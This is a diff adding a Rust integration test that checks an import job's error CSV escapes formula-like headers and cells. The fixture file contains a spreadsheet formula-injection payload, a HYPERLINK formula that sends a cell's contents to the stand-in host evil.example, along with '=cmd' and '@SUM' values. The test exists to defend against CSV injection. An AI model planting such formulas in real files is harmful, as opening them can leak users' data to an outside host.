@@ -20,6 +20,7 @@ crate::db_tests!(
     the_mapping_can_be_edited_and_its_problems_block_the_run,
     reimporting_an_export_by_id_changes_nothing,
     an_export_carries_custom_fields_and_every_contact_point_into_another_workspace,
+    the_error_file_writes_the_files_headers_as_text_not_formulas,
     undo_restores_the_prior_state_exactly,
     a_crashed_import_resumes_without_duplicates,
     rows_of_one_batch_see_what_the_rows_before_them_wrote,
@@ -347,6 +348,25 @@ async fn an_export_carries_custom_fields_and_every_contact_point_into_another_wo
         "a formula-like value comes back as it was"
     );
     assert_eq!(by_name(&all, "Élodie M.")["custom_fields"], json!({}), "no column fills a field it has not got");
+}
+
+/// A header of the imported file is written back in its error file: a formula there (as in any
+/// cell) is quoted as text, so opening the file runs nothing.
+async fn the_error_file_writes_the_files_headers_as_text_not_formulas(app: TestApp) {
+    let (_, p) = app.api_in_new_workspace("Acme").await;
+    let b = app.signed_in(&p).await;
+    let file = "Name,Country,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"x\"\")\",@SUM(1+1)\n=cmd,ZZ,a,b\n";
+    let path = upload_ok(&b, &[("mode", "create")], "poisoned.csv", file.as_bytes()).await;
+    let (s, _) = submit_mapping(&b, &path, &[("mode", "create")], &[(0, "display_name"), (1, "country")], "run").await;
+    assert_eq!(s, StatusCode::SEE_OTHER);
+    let job = settled(&app, p.workspace, job_id(&path)).await;
+    assert_eq!(job.counts.failed, 1, "{:?}", job.error);
+    let body = b.client.get(format!("{}{path}/errors.csv", b.base)).send().await.unwrap().text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    assert_eq!(header[2..], ["Name", "Country", "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")", "'@SUM(1+1)"]);
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[2], "'=cmd");
 }
 
 async fn undo_restores_the_prior_state_exactly(app: TestApp) {
